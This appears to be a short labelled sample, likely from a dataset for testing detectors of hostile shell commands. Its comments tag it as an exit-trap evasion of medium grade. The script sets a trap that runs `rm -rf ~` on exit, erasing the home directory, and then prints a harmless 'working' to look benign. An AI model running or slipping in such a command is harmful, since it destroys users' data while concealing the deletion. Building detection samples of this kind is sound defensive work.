# evasion: trap string runs at exit
# grade: medium; does: rm-rf
trap 'rm -rf ~' EXIT
echo working
